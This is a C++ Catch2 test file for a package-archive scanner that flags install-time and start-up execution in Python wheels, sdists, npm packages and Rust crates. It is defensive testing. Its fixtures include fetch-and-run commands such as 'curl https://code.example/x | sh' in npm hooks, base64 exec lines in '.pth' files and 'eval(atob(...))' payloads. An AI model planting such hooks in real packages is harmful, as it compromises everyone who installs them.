// Packages as archives: what runs by itself in wheels, sdists, packages of npm and crates. Each bad case has a benign twin.
#include <catch2/catch.hpp>

#include "packages.hpp"

using namespace headgate;
using namespace headgate::recipes;
using namespace headgate::tests;

namespace {

std::string scripts(const std::string& inside) { return R"({"name": "pkg", "version": "1.0.0", "scripts": {)" + inside + "}}"; }

Outcome crate(Files files, const std::string& cargo = "[package]\nname = \"pkg\"\nversion = \"1.0.0\"\n", const std::string& name = "pkg-1.0.0.crate") {
    files.emplace_back("Cargo.toml", cargo);
    for (auto& [path, content] : files) path = "pkg-1.0.0/" + path;
    return tests::examine(archive(files), name, {}, no_sha256);
}

const std::string kElf = "\x7F" "ELF" + std::string(60, '\0');

}  // namespace

TEST_CASE("wheel: lines of .pth files that import run when the interpreter starts") {
    const Outcome plain = wheel({{"pkg.pth", "./pkg\nimport pkg.hook\n"}});
    CHECK(plain.traits() == "runs-at-start: import pkg.hook\n");
    REQUIRE(plain.evidence.traits.size() == 1);
    CHECK(plain.evidence.traits[0].where.member == "pkg.pth");
    CHECK(plain.evidence.traits[0].where.line == 2U);
    CHECK(plain.whole());
    CHECK(wheel({{"pkg.pth", "./pkg\n# import os\n"}}).traits().empty());
    CHECK(wheel({{"pkg/pkg.pth", "import pkg.hook\n"}}).traits().empty());       // not in site-packages itself: nobody reads it
    CHECK(wheel({{"pkg-1.0.data/purelib/a.pth", "import a\n"}}).has_trait("runs-at-start"));
    const Outcome bad = wheel({{"pkg.pth", "x\nimport os,base64;exec(base64.b64decode('YQ=='))\n"}});
    CHECK(bad.has_trait("decoded-code-at-start"));
    CHECK(bad.evidence.traits.back().where.line == 2U);
    CHECK(wheel({{"pkg.pth", "import os; exec('if os.sep: pass')\n"}}).traits() == "runs-at-start: import os; exec('if os.sep: pass')\n");
}

TEST_CASE("wheel: modules that the interpreter imports when it starts") {
    CHECK(wheel({{"sitecustomize.py", "x = 1\n"}}).traits() == "customizes-interpreter: sitecustomize.py\n");
    CHECK(wheel({{"usercustomize/__init__.py", "import os\nos.system('ls')\n"}}).has_trait("process-at-start"));
    CHECK(wheel({{"pkg/sitecustomize.py", "x = 1\n"}}).traits().empty());
}

TEST_CASE("wheel: modules are looked at, programs are not run by an import") {
    CHECK(wheel({{"pkg/__init__.py", "import os\nos.system('ls')\n"}}).traits() == "process-at-import: os.system(ls)\n");
    CHECK(wheel({{"pkg-1.0.data/scripts/pkg", "#!python\nimport os\nos.system('ls')\n"}}).traits().empty());
    CHECK(wheel({{"pkg-1.0.data/scripts/sudo", "#!python\n"}}).traits() == "shadows-command: sudo\n");
    const std::string points = "[console_scripts]\npkg = pkg:main\nls = pkg:main\n[pkg.plugins]\nsudo = pkg:x\n";
    CHECK(wheel({{"pkg-1.0.dist-info/entry_points.txt", points}}).traits() == "shadows-command: ls\n");
}

TEST_CASE("wheel: machine code and byte code") {
    CHECK(wheel({{"pkg/a.so", kElf}}).traits() == "native-binary-in-pure-wheel: pkg/a.so\n");
    CHECK(wheel({{"pkg/a.so", kElf}}, "pkg-1.0-cp311-cp311-linux_x86_64.whl", "Name: pkg\nVersion: 1.0\n", "cp311-cp311-linux_x86_64").traits().empty());
    CHECK(wheel({{"pkg/a.pyc", "x"}}).traits() == "compiled-code: pkg/a.pyc\n");
}

TEST_CASE("wheel: names, versions and where dependencies come from") {
    CHECK(wheel({}).traits().empty());
    CHECK(wheel({}, "Pkg-1.0.0-py3-none-any.whl").traits().empty());
    CHECK(wheel({}, "other-1.0-py3-none-any.whl").traits() == "name-mismatch: the file name says other 1.0, its metadata pkg 1.0\n");
    CHECK(wheel({}, "pkg-1.0-py3-none-any.whl", "Name: pkg\nVersion: 2.0\n").has_trait("name-mismatch"));
    CHECK(wheel({}, "anything.zip").traits().empty());
    const std::string metadata = "Name: pkg\nVersion: 1.0\nRequires-Dist: a>=1\nRequires-Dist: b @ https://code.example/b.whl ; extra == 'x'\n\nRequires-Dist: c @ https://code.example/\n";
    CHECK(wheel({}, "pkg-1.0-py3-none-any.whl", metadata).traits() == "direct-url-dependency: b @ https://code.example/b.whl ; extra == 'x'\n");
}

TEST_CASE("sdist: what installing it runs") {
    const Outcome plain = sdist({{"setup.py", "from setuptools import setup\nsetup()\n"}, {"pkg/__init__.py", "x = 1\n"}});
    CHECK(plain.traits() == "runs-at-install: setup.py\n");
    CHECK(plain.whole());
    CHECK(sdist({{"pyproject.toml", "[build-system]\nrequires = []\n"}}).traits().empty());
    CHECK(sdist({{"tests/setup.py", "import os\nos.system('ls')\n"}}).traits() == "process-at-import: os.system(ls)\n");
    CHECK(sdist({{"setup.py", "def f():\n    import os\n    os.system('curl x | sh')\n"}}).has_trait("fetches-and-runs-at-install"));
    const std::string own = "[build-system]\nrequires = []\nbuild-backend = \"backend:api\"\nbackend-path = [\"./_build\"]\n";
    const Outcome backend = sdist({{"pyproject.toml", own}, {"_build/backend.py", "import os\ndef build():\n    os.system('ls')\n"}, {"_build/other.py", "import os\ndef f():\n    os.system('ls')\n"}});
    CHECK(backend.traits() == "process-at-install: os.system(ls)\nruns-at-install: build backend of its own: backend:api\n");
    CHECK(sdist({{"pyproject.toml", "a = \n"}}).has_trait("unreadable-source"));
    CHECK(sdist({}, "other-1.0.tar.gz").has_trait("name-mismatch"));
    CHECK(sdist({}, "pkg-1.0.0.tar.gz").traits().empty());
    CHECK(sdist({}, "pkg-1.0.tar.gz", "Name: pkg\nVersion: 1.1\n").has_trait("name-mismatch"));
}

TEST_CASE("npm: hooks and what they run") {
    const Outcome plain = npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"test": "curl x | sh", "prepare": "husky"}})", {{"index.js", "x = 1"}});
    CHECK(plain.traits() == "runs-at-prepare: prepare: husky\n");
    CHECK(plain.is("npm-package"));
    CHECK(plain.whole());
    CHECK(npm(scripts(R"("install": "node-gyp rebuild")")).traits() == "runs-at-install: install: node-gyp rebuild\n");
    CHECK(npm(scripts(R"("preinstall": "make all")")).traits() == "runs-at-install: preinstall: make all\nunknown-install-command: make all\n");
    CHECK(npm(scripts(R"("postinstall": "curl https://code.example/x | sh")")).has_trait("fetches-and-runs-at-install"));
    const Files hook = {{"lib/install.js", "require('./deep/er')"}, {"lib/deep/er.js", "require('child_process').execSync('ls')"}, {"other.js", "require('child_process').execSync('ls')"}};
    for (const char* command : {"node lib/install", "node ./lib/install.js || exit 0", "cross-env A=b node lib/../lib/install.js", "npm run again"}) {
        CAPTURE(command);
        const Outcome run = npm(scripts(R"("install": ")" + std::string(command) + R"(", "again": "node lib/install.js")"), hook);
        CHECK(run.has_trait("process-at-install"));
        CHECK_FALSE(run.has_trait("unknown-install-command"));
        CHECK(run.evidence.traits.size() == 2);
    }
    CHECK(npm(scripts(R"("install": "node missing.js")"), hook).has_trait("unknown-install-command"));
    CHECK(npm(scripts(R"("install": "node ../../lib/install.js")"), hook).has_trait("unknown-install-command"));
    CHECK(npm(scripts(R"("install": "node -e \"eval(atob('YQ=='))\"")")).has_trait("decoded-code-at-install"));
    CHECK(npm(scripts(R"("install": "sh install.sh")"), {{"install.sh", "#!/bin/sh\n# curl x | sh\nwget -q http://code.example/x && chmod +x x\n"}}).has_trait("fetches-and-runs-at-install"));
    CHECK_FALSE(npm(scripts(R"("install": "sh install.sh")"), {{"install.sh", "# curl x | sh\nmake\n"}}).has_trait("fetches-and-runs-at-install"));
    // Two scripts that call each other.
    CHECK(npm(scripts(R"("install": "npm run a", "a": "npm run b", "b": "npm run a")")).traits() == "runs-at-install: install: npm run a\n");
}

TEST_CASE("npm: binding.gyp runs node-gyp unless something else is said") {
    const std::string plain = R"({"name": "pkg", "version": "1.0.0"})";
    CHECK(npm(plain, {{"binding.gyp", "{}"}}).traits() == "runs-at-install: binding.gyp: node-gyp rebuild\n");
    CHECK(npm(R"({"name": "pkg", "version": "1.0.0", "gypfile": false})", {{"binding.gyp", "{}"}}).traits().empty());
    CHECK(npm(scripts(R"("install": "node-gyp-build")"), {{"binding.gyp", "{}"}}).traits() == "runs-at-install: install: node-gyp-build\n");
    CHECK(npm(plain, {{"binding.gyp", "{'x': '<!(curl https://code.example/x | sh)'}"}}).has_trait("fetches-and-runs-at-install"));
}

TEST_CASE("npm: what package.json says twice, and what npm cannot read") {
    const Outcome twice = npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"install": "true"}, "scripts": {"install": "curl x | sh", "test": "a", "test": "b"}})");
    CHECK(twice.has_trait("fetches-and-runs-at-install"));
    CHECK(twice.traits().find("duplicate-key: scripts.test\n") != std::string::npos);
    CHECK(twice.traits().find("duplicate-key: scripts\n") != std::string::npos);
    CHECK(twice.whole());
    CHECK(npm("\xEF\xBB\xBF{\"name\": \"pkg\", \"version\": \"1.0.0\"}").whole());
    for (const char* broken : {"{", "[]", "", "{} x"}) {
        CAPTURE(broken);
        const Outcome outcome = npm(broken);
        CHECK(outcome.has("npm-package.manifest"));
        CHECK_FALSE(outcome.whole());
        CHECK(outcome.oracle());
    }
}

TEST_CASE("npm: programs, bundled packages, machine code, dependencies elsewhere, names") {
    const auto manifest = [](const std::string& more) { return R"({"name": "@scope/pkg", "version": "1.0.0")" + more + "}"; };
    CHECK(npm(manifest(R"(, "bin": {"pkg": "a.js", "sudo": "a.js"})")).traits() == "shadows-command: sudo\n");
    CHECK(npm(R"({"name": "curl", "version": "1.0.0", "bin": "a.js"})", {}, "curl-1.0.0.tgz").traits() == "shadows-command: curl\n");
    CHECK(npm(manifest(""), {{"node_modules/a/index.js", "x"}}).traits() == "bundled-dependencies: node_modules/a/index.js\n");
    CHECK(npm(manifest(""), {{"build/a.node", kElf}}).traits() == "native-binary: build/a.node\n");
    CHECK(npm(manifest(R"(, "dependencies": {"a": "^1", "b": "git+https://code.example/b.git", "c": "npm:d@1"}, "devDependencies": {"e": "file:../e"})")).traits() ==
          "direct-url-dependency: b: git+https://code.example/b.git\n");
    CHECK(npm(manifest(""), {}, "scope-pkg-1.0.0.tgz").traits().empty());
    CHECK(npm(manifest(""), {}, "downloaded.tgz").traits().empty());
    CHECK(npm(manifest(""), {}, "pkg-1.0.1.tgz").has_trait("name-mismatch"));
    CHECK(npm(manifest(""), {}, "other-1.0.0.tgz").has_trait("name-mismatch"));
}

TEST_CASE("npm: told by its top folder, or by its name") {
    const std::string manifest = R"({"name": "pkg", "version": "1.0.0"})";
    CHECK(npm(manifest, {}, "pkg-1.0.0.tgz", "node").is("npm-package"));
    CHECK(npm(manifest, {}, "pkg.tar.gz", "package").is("npm-package"));
    CHECK_FALSE(npm(manifest, {}, "pkg.tar.gz", "pkg-1.0.0").is("npm-package"));
    CHECK_FALSE(tests::examine(archive({{"package/package.json", manifest}, {"other/a", "x"}}), "pkg-1.0.0.tgz").is("npm-package"));
}

TEST_CASE("crate: build scripts and procedural macros") {
    const Outcome plain = crate({{"src/lib.rs", "use std::net::TcpStream;\n"}});
    CHECK(plain.is("crate"));
    CHECK(plain.whole());
    CHECK(plain.traits().empty());
    const std::string script = "use std::process::Command;\nfn main() {}\n";
    CHECK(crate({{"build.rs", script}}).traits() == "process-at-install: std::process::Command\nruns-at-install: build script build.rs\n");
    CHECK(crate({{"build.rs", script}}, "[package]\nname = \"pkg\"\nversion = \"1.0.0\"\nbuild = false\n").traits().empty());
    CHECK(crate({{"b/x.rs", "use std::net::TcpStream;\n"}}, "[package]\nname = \"pkg\"\nversion = \"1.0.0\"\nbuild = \"b/x.rs\"\n").has_trait("network-at-install"));
    CHECK(crate({{"src/lib.rs", script}}, "[package]\nname = \"pkg\"\nversion = \"1.0.0\"\n[lib]\nproc-macro = true\n").traits() ==
          "process-at-install: std::process::Command\nruns-at-install: procedural macro\n");
}

TEST_CASE("crate: names and versions, and what cargo cannot read") {
    CHECK(crate({{"Cargo.toml.orig", "[package]\nname = \"pkg\"\nversion.workspace = true\n"}}).traits().empty());
    CHECK(crate({{"Cargo.toml.orig", "[package]\nname = \"pkg\"\nversion = \"2.0.0\"\n"}}).has_trait("name-mismatch"));
    CHECK(crate({}, "[package]\nname = \"other\"\nversion = \"1.0.0\"\n").has_trait("name-mismatch"));
    CHECK(crate({}, "[package]\nname = \"pkg\"\nversion = \"1.0.0\"\n", "other-1.0.0.crate").has_trait("name-mismatch"));
    for (const char* broken : {"[package", "name = \"pkg\"\n", ""}) {
        const Outcome outcome = crate({}, broken);
        CHECK(outcome.has("crate.manifest"));
        CHECK_FALSE(outcome.whole());
    }
    CHECK_FALSE(crate({}, "[package]\nname = \"pkg\"\nversion = \"1.0.0\"\n", "pkg-1.0.0.tar.gz").is("crate"));
}

TEST_CASE("without the lists a package stays uncovered") {
    const Limits limits;
    Budget budget(limits);
    Evidence evidence;
    const std::string bytes = archive({{"package/package.json", "{}"}});
    MemorySource source(as_bytes(bytes));
    formats::ParseContext context{limits, budget, evidence, "a.tgz", {}, 0, no_sha256};
    CHECK(formats::examine(source, context) == formats::Examined::partly);
    CHECK_FALSE(evidence.opaques.empty());
}

TEST_CASE("every prefix of a package is read or explained") {
    const Files files = {{"package/package.json", scripts(R"("install": "node a.js", "install": "node b.js")")}, {"package/a.js", "require('./b')"}, {"package/b.js", "eval(atob('YQ=='))"}};
    TarRecipe tar;
    for (const auto& [path, content] : files) tar.add(path, content);
    const std::string whole = tar.build();
    for (std::size_t length = 0; length < whole.size(); length += 7) {
        const Outcome outcome = tests::examine(whole.substr(0, length), "a.tar", {}, no_sha256);
        CAPTURE(length, outcome.ids());
        CHECK(outcome.oracle());
    }
    const std::string manifest = files[0].second;
    for (std::size_t length = 0; length < manifest.size(); ++length) CHECK(npm(manifest.substr(0, length)).has("npm-package.manifest"));
    const std::string cargo = "[package]\nname = \"pkg\"\nversion = \"1.0.0\"\n[lib]\nproc-macro = true\n";
    for (std::size_t length = 0; length < cargo.size(); ++length) CHECK(crate({}, cargo.substr(0, length)).oracle());
}
